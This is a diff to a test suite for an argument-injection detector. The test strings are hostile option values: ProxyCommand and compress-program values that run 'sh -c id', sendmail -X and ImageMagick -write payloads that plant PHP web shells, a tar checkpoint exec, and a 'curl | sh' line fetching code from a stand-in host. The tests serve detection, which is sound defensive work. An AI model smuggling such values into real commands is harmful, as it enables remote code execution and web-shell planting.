@@ -19,8 +19,34 @@ describe("argument injection", () => {
       '-oProxyCommand="sh -c id"',
       "--use-compress-program='sh -c id'",
       "x -exec rm {} ;",
+      "-T -TT 'sh -c id'",
+      '--unzip-command="sh -c id"',
     ])
       expect(execOption(v), v).toBe(true);
+  });
+
+  it("names options that write a script where the value says", () => {
+    for (const v of [
+      '"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com',
+      "a -X /srv/www/htdocs/log.txt b",
+      "100x100 -write /tmp/shell.php",
+      "100x100 -write msl:/tmp/x.msl",
+      "-write /var/www/html/uploads/a.png",
+      "100x100 -write /app/public/s.js -set comment %[`id`]",
+    ])
+      expect(execOption(v), v).toBe(true);
+  });
+
+  it("leaves other -X and -write alone", () => {
+    for (const v of [
+      "press Ctrl-X /save",
+      "use -write to save the image",
+      "curl -X POST /api/items",
+      "-X /tmp/debug.log",
+      "model T-X /var/www",
+      "-write out.png",
+    ])
+      expect(execOption(v), v).toBe(false);
   });
 
   it("leaves sentences and other options alone", () => {
@@ -38,6 +64,8 @@ describe("argument injection", () => {
     expect(rules({ extra_args: "--exec 'curl -s http://x.example/y | sh'" })).toContain("932231");
     expect(rules({ paths: ["/data", "--checkpoint=1", "--checkpoint-action=exec=sh /tmp/r.sh"] })).toContain("932231");
     expect(rules({ extra_args: "--format mp4 --output video.mp4" })).toEqual([]);
+    expect(rules({ email: '"a\\" -oQ/tmp/ -X/var/www/html/x.php b"@example.com' })).toContain("932231");
+    expect(rules({ size: "100x100 -write /var/www/html/x.php" })).toContain("932231");
   });
 });
 
